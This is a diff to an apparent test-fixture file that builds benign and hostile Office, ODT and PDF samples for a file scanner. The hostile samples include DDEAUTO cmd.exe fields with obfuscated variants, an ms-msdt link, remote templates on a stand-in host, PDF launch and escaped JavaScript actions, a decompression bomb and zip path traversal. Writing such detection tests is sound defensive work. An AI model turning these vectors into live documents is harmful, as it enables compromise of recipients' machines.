@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import io
 import zipfile
+import zlib
 
 from PIL import Image
 
@@ -62,16 +63,57 @@ def word(*more: tuple[str, bytes]) -> bytes:
     return archive(("[Content_Types].xml", b"<Types/>"), ("word/document.xml", b"<w:document/>"), *more)
 
 
-def sheet() -> bytes:
-    return archive(("[Content_Types].xml", b"<Types/>"), ("xl/workbook.xml", b"<workbook/>"))
+def sheet(*more: tuple[str, bytes]) -> bytes:
+    return archive(("[Content_Types].xml", b"<Types/>"), ("xl/workbook.xml", b"<workbook/>"), *more)
 
 
 def text_document() -> bytes:
     return archive(("mimetype", ODT.encode()), ("content.xml", b"<office/>"))
 
 
-def pdf() -> bytes:
-    return b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
+RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+TEMPLATE = f"{RELATIONS}/attachedTemplate"
+
+
+def relations(kind: str, target: str, mode: str = "External") -> bytes:
+    return (
+        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
+        f'relationships"><Relationship Id="r1" Type="{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>'
+    ).encode()
+
+
+def word_with_relation(kind: str, target: str, mode: str = "External") -> bytes:
+    return word(("word/_rels/settings.xml.rels", relations(kind, target, mode)))
+
+
+def word_with_field(*pieces: str) -> bytes:
+    runs = "".join(f"<w:r><w:instrText xml:space='preserve'>{piece}</w:instrText></w:r>" for piece in pieces)
+    return word(("word/header1.xml", f"<w:hdr>{runs}</w:hdr>".encode()))
+
+
+def text_document_with(body: str) -> bytes:
+    return archive(("mimetype", ODT.encode()), ("content.xml", f"<office:body>{body}</office:body>".encode()))
+
+
+def pdf(objects: bytes = b"") -> bytes:
+    begin = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\n"
+    return begin + objects + b"\ntrailer << /Root 1 0 R >>\n%%EOF\n"
+
+
+def packed_objects(objects: bytes, more: bytes = b"") -> bytes:
+    """Objects in a stream, as most PDFs of today have them."""
+    text = b"2 0 3 40 " + objects
+    packed = zlib.compress(text)
+    head = b"4 0 obj\n<< /Type /ObjStm /N 2 /First 9 /Filter /FlateDecode %s /Length %d >>\n" % (more, len(packed))
+    return head + b"stream\r\n" + packed + b"\r\nendstream\nendobj\n"
+
+
+SCRIPT_ACTION = b"<< /S /JavaScript /JS (app.alert(1)) >>"
+GO_TO = b"5 0 obj\n<< /Type /Catalog /OpenAction << /S /GoTo /D [6 0 R /Fit] >> >>\nendobj\n"
+
+
+def pdf_that_unpacks_to_too_much() -> bytes:
+    return pdf(packed_objects(b"<< /A (" + b" " * 68_000_000 + b") >>"))
 
 
 def bomb() -> bytes:
@@ -94,6 +136,14 @@ HONEST = {
     "costs.xlsx": (sheet(), f"{OPEN_XML}.spreadsheetml.sheet"),
     "letter.odt": (text_document(), ODT),
     "unnamed-type.pdf": (pdf(), ""),
+    "opens-at-its-page.pdf": (pdf(GO_TO + packed_objects(b"<< /S /URI /URI (https://example.com/JavaScript) >>")), ""),
+    "of-many-streams.pdf": (pdf(packed_objects(b"<< /A 1 >>") * 200 + packed_objects(b"<< /B 2 >>" * 900) * 20), ""),
+    "with-a-link.docx": (word_with_relation(f"{RELATIONS}/hyperlink", "https://example.com/?a=1"), ""),
+    "of-a-template.docx": (word_with_relation(TEMPLATE, r"file:///C:\Users\Eva\Letter.dotx"), ""),
+    "with-fields.docx": (word_with_field(" PAGE ", ' HYPERLINK "https://example.com" ', " TOC "), ""),
+    "with-a-chart.docx": (word(("word/embeddings/Microsoft_Excel_Sheet1.xlsx", sheet())), ""),
+    "with-a-link.odt": (text_document_with('<text:a xlink:href="https://example.com">here</text:a>'), ""),
+    "with-a-picture.odt": (text_document_with('<draw:image xlink:href="Pictures/1.png"/>'), ""),
 }
 
 HOSTILE = {
@@ -120,6 +170,127 @@ HOSTILE = {
     "a sheet called a letter": ("letter.docx", sheet(), ""),
     "a letter with macros": ("letter.docx", word(("word/vbaProject.bin", b"x")), ""),
     "a letter with a program": ("letter.docx", word(("word/embeddings/setup.exe", b"MZ")), ""),
+    "a letter with macros under another name": (
+        "letter.docx",
+        word_with_relation(
+            "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "notes.xml", "Internal"
+        ),
+        "",
+    ),
+    "a letter that says it has macros": (
+        "letter.docx",
+        archive(
+            ("[Content_Types].xml", b"<Types><Override ContentType='application/vnd.ms-word.document.macroEnabled'/>"),
+            ("word/document.xml", b"<w:document/>"),
+        ),
+        "",
+    ),
+    "a letter with an object of another program": (
+        "letter.docx",
+        word(("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 500)),
+        "",
+    ),
+    "a letter that embeds one as a picture": (
+        "letter.docx",
+        word(("word/media/image1.png", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 500)),
+        "",
+    ),
+    "a letter with a control": ("letter.docx", word_with_relation(f"{RELATIONS}/control", "x.xml", "Internal"), ""),
+    "a letter with a page in it": ("letter.docx", word_with_relation(f"{RELATIONS}/aFChunk", "a.htm", "Internal"), ""),
+    "a letter with an archive": ("letter.docx", word(("word/media/a.zip", archive(("a.txt", b"x")))), ""),
+    "a letter with a table with macros": (
+        "letter.docx",
+        word(("word/embeddings/a.xlsx", archive(("[Content_Types].xml", b"<Types/>"), ("xl/vbaProject.bin", b"x")))),
+        "",
+    ),
+    "a letter of a stranger's template": (
+        "letter.docx",
+        word_with_relation(TEMPLATE, "https://sink.example/a.dotm"),
+        "",
+    ),
+    "a letter of a template on a share": (
+        "letter.docx",
+        word_with_relation(TEMPLATE, "file:///%5C%5Csink.example%5Ca.dotm"),
+        "",
+    ),
+    "a letter with a picture elsewhere": (
+        "letter.docx",
+        word_with_relation(f"{RELATIONS}/image", r"\\sink.example\a.png"),
+        "",
+    ),
+    "a letter with a link that runs": (
+        "letter.docx",
+        word_with_relation(f"{RELATIONS}/hyperlink", "ms-msdt:/id PCWDiagnostic"),
+        "",
+    ),
+    "a letter that asks a program": ("letter.docx", word_with_field(r" DDEAUTO c:\\windows\\cmd.exe "), ""),
+    "a letter that asks one in pieces": ("letter.docx", word_with_field(" DD<!-- x -->E", "&#65;UTO cmd"), ""),
+    "a letter that fetches a picture": (
+        "letter.docx",
+        word_with_field(' INCLUDEPICTURE "https://sink.example/a" '),
+        "",
+    ),
+    "a letter with a declaration": (
+        "letter.docx",
+        word(("word/header1.xml", b"<!DOCTYPE a [<!ENTITY d 'DDEAUTO'>]><w:hdr/>")),
+        "",
+    ),
+    "a letter in an alphabet of its own": (
+        "letter.docx",
+        word(("word/header1.xml", b"<?xml version='1.0' encoding='UTF-7'?><w:hdr/>")),
+        "",
+    ),
+    "a letter that asks a program in UTF-16": (
+        "letter.docx",
+        word(("word/header1.xml", "<w:hdr><w:instrText>DDE cmd</w:instrText></w:hdr>".encode("utf-16"))),
+        "",
+    ),
+    "a sheet that asks a program": (
+        "costs.xlsx",
+        sheet(
+            ("xl/externalLinks/externalLink1.xml", b"<x:externalLink><x:ddeLink ddeService='cmd'/></x:externalLink>")
+        ),
+        "",
+    ),
+    "a sheet that fetches": (
+        "costs.xlsx",
+        sheet(("xl/_rels/a.rels", relations(f"{RELATIONS}/connections", "c.xml"))),
+        "",
+    ),
+    "an ODT that asks a program": ("letter.odt", text_document_with("<text:dde-connection-decl/>"), ""),
+    "an ODT that runs at an event": ("letter.odt", text_document_with("<script:event-listener/>"), ""),
+    "an ODT with a picture elsewhere": (
+        "letter.odt",
+        text_document_with('<draw:image xlink:type="simple" xlink:href="http://sink.example/a.png"/>'),
+        "",
+    ),
+    "an ODT with a link that runs": (
+        "letter.odt",
+        text_document_with('<text:a xlink:href="vnd.sun.star.script:a?language=Basic">here</text:a>'),
+        "",
+    ),
+    "a PDF with a script": ("policy.pdf", pdf(b"2 0 obj\n" + SCRIPT_ACTION + b"\nendobj\n"), "application/pdf"),
+    "a PDF with an escaped script": (
+        "policy.pdf",
+        pdf(b"2 0 obj\n" + SCRIPT_ACTION.replace(b"/JavaScript", b"/J#61va#53cript") + b"\nendobj\n"),
+        "",
+    ),
+    "a PDF with a script close to its key": (
+        "policy.pdf",
+        pdf(b"2 0 obj\n" + SCRIPT_ACTION.replace(b"/S /J", b"/#53/J") + b"\nendobj\n"),
+        "",
+    ),
+    "a PDF that is a program": ("policy.pdf", pdf(b"2 0 obj\n<< /Fields [] /Need true/XFA 3 0 R >>\n"), ""),
+    "a PDF with a packed script": ("policy.pdf", pdf(packed_objects(SCRIPT_ACTION)), ""),
+    "a PDF with a script that is packed oddly": (
+        "policy.pdf",
+        pdf(packed_objects(b"x", b"/DecodeParms << /Predictor 12 >>")),
+        "",
+    ),
+    "a PDF that starts a program": ("policy.pdf", pdf(b"2 0 obj\n<< /S /Launch /F (cmd.exe) >>\nendobj\n"), ""),
+    "a PDF that opens one on a share": ("policy.pdf", pdf(b"2 0 obj\n<< /S /GoToR /F (//sink.example/a) >>\n"), ""),
+    "a PDF that is protected": ("policy.pdf", pdf(b"trailer << /Encrypt 9 0 R >>\n"), ""),
+    "a PDF that fills the memory": ("policy.pdf", pdf_that_unpacks_to_too_much(), ""),
     "a letter that climbs out": ("letter.docx", word(("../../etc/passwd", b"x")), ""),
     "a letter behind a page": ("letter.docx", b"<html>" + SCRIPT + word(), ""),
     "a letter before a page": ("letter.docx", word() + b"<html>" + SCRIPT, ""),
